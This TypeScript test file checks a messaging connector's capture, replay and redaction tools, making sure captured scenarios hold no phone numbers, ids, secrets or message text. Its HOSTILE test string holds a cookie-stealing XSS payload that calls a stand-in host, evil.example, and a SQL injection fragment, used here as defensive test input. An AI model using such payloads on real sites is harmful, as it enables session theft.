import { describe, expect, it } from 'vitest';
import type { ConnectorMessage } from '../../src/contract/connector/messages.ts';
import type { MessageTrace } from '../../src/contract/connector/trace.ts';
import { buildCapture } from '../../src/scenario/capture.ts';
import { createRedactor } from '../../src/scenario/redact.ts';
import { replay } from '../../src/scenario/replay.ts';
import { readScenario, type Scenario, writeScenario } from '../../src/scenario/scenario.ts';
import { scenarioWorld } from './scenario-world.ts';

const CONTACT = '4917012345678';
const HOSTILE = `<img src=x onerror="fetch('//evil.example/'+document.cookie)"> Grüße 你好 👋 \u202eאבג\u0007 $connection1 $start+5 ' OR 1=1; --`;

const world = scenarioWorld();
const { loop, target } = world;

/** The file that capturing a message writes. */
async function capture(messageId: string): Promise<string> {
  const message = await loop.connector<ConnectorMessage>('GET', `/v1/messages/${messageId}`);
  const { entries } = await loop.connector<MessageTrace>('GET', `/v1/messages/${messageId}/trace?limit=1000`);
  return writeScenario(buildCapture({ message, entries }, createRedactor(Buffer.from('a key'))));
}

function pathsOf({ causes }: Scenario): string[] {
  return causes.map(({ method, path }) => `${method} ${path}`);
}

describe('a capture', () => {
  it('repeats what a connector received about a message, including copies and late events', async () => {
    const connectionId = await world.client.qrConnection();
    await loop.connector('POST', '/v1/messages', {
      connectionId,
      to: CONTACT,
      text: HOSTILE,
      reference: 'secret-reference',
    });
    await loop.loop.settle();
    await loop.sandbox('POST', '/clock/advance', { ms: 60_000 });
    await loop.loop.settle();
    const late = (await world.client.deliveries()).find(({ messageId }) => messageId !== null) as unknown as {
      id: string;
    };
    await loop.sandbox('POST', `/deliveries/${late.id}/resend`, {});
    await loop.loop.settle();
    const [message] = await world.client.messages();
    const file = await capture(message?.id ?? '');
    const scenario = readScenario(file);
    expect(pathsOf(scenario).slice(0, 3)).toEqual([
      'POST /faults',
      expect.stringMatching(/^PUT \/contacts\/1555010\d{6}$/),
      'POST /v1/messages',
    ]);
    expect(pathsOf(scenario).filter((path) => path.endsWith('/copies'))).toHaveLength(4);
    expect((await replay(scenario, target)).differences).toEqual([]);
  });

  it('contains no phone number, text, id, secret or token', async () => {
    const connectionId = await world.client.qrConnection();
    const incoming = (await loop.sandbox('POST', `/contacts/${CONTACT}/messages`, {
      connectionId,
      text: HOSTILE,
    })) as {
      messageId: string;
    };
    await loop.loop.settle();
    const file = await capture(incoming.messageId);
    const { apiKey, connectorToken } = loop.loop.info();
    for (const own of [
      CONTACT,
      connectionId,
      incoming.messageId,
      apiKey,
      connectorToken ?? '',
      'evil',
      'cookie',
      'onerror',
      'Grü',
      '你好',
      '👋',
      'אב',
      'OR 1=1',
    ]) {
      expect(file).not.toContain(own);
    }
    for (let at = 0; at + 4 <= CONTACT.length; at += 1) expect(file).not.toContain(CONTACT.slice(at, at + 4));
    expect((await replay(readScenario(file), target)).differences).toEqual([]);
  });
});

describe('a redacted text', () => {
  const { text, phone } = createRedactor(Buffer.from('a key'));

  it('has the length and the character classes of the original, and no letter in its place', () => {
    const redacted = text(HOSTILE);
    expect(redacted.length).toBe(HOSTILE.length);
    expect(Buffer.byteLength(redacted)).toBe(Buffer.byteLength(HOSTILE));
    const kinds = (value: string) =>
      value
        .replace(/\p{Lu}/gu, 'A')
        .replace(/\p{L}/gu, 'a')
        .replace(/\d/g, '0')
        .replace(/\p{Extended_Pictographic}/gu, '*');
    expect(kinds(redacted).length).toBe(kinds(HOSTILE).length);
    const chars = [...HOSTILE];
    const same = [...redacted].filter((char, index) => char === chars[index] && /[\p{L}\p{N}]/u.test(char));
    expect(same).toEqual([]);
  });

  it('is the same for the same original, and different with another key', () => {
    expect(text('Hello')).toBe(text('Hello'));
    expect(createRedactor(Buffer.from('another')).text('Hello')).not.toBe(text('Hello'));
  });

  it('has a phone number of the same length from a range reserved for fiction', () => {
    expect(phone(CONTACT)).toMatch(/^1555010\d{6}$/);
    expect(phone('12345')).toMatch(/^[1-9]\d{4}$/);
  });
});
